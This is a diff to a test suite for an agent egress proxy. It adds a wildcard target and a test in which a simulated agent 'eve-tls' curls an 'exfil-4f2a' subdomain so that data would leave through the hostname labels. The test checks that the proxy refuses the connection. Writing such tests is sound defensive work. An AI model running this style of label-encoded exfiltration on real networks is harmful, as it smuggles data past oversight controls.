@@ -34,9 +34,10 @@ targets:
   www: {{hostname: "{WWW}", port: [80, 443]}}
   api: {{hostname: "{API}", port: 443, credentials: api-token}}
   pinned: {{hostname: "{PINNED}", port: 443, tls: passthrough}}
+  wild: {{hostname: "*.wild.lab.test", port: 443}}
 rules:
   - name: named-ok
-    target: [www, api, pinned]
+    target: [www, api, pinned, wild]
     decision: allow
 """
 
@@ -151,6 +152,15 @@ def test_intercepted_host_counts_only_when_resolved_or_covered_by_the_certificat
     r = as_agent(named, "eve-tls", curl(named, "--resolve", f"{API}:443:{x}", f"'https://{API}/whoami?t2'"))
     assert r.stdout.strip().endswith("502"), r.stdout + r.stderr
     assert hits(named, "/whoami?t2") == 0
+    # a name only a glob matches is never tried on a certificate: the proxy's own ClientHello would
+    # carry the agent's labels to the agent's address. Refused at connect: no 502, no handshake.
+    r = as_agent(named, "eve-tls", curl(named, "--resolve", f"exfil-4f2a.wild.lab.test:443:{x}",
+                                        "'https://exfil-4f2a.wild.lab.test/small?t3'"))
+    assert r.stdout.strip().endswith("000"), r.stdout + r.stderr
+    s = wait_until(lambda: [s for s in sessions_to(named, "eve-tls", 443) if s["ended"] and s["verdict"] == "deny"])
+    assert s and s[-1]["rule"] == "default" and s[-1]["bytes_down"] == 0
+    assert any(e["data"]["name"] == "exfil-4f2a.wild.lab.test" and e["data"]["judged"] == "by address"
+               for e in named.events("name-unbound"))
     refused = [e["data"] for e in named.events("decision") if e["data"]["protocol"] == "http"
                and e["data"]["verdict"] == "deny" and "/whoami" in e["data"]["summary"]]
     assert refused and refused[-1]["rule"] == "default"
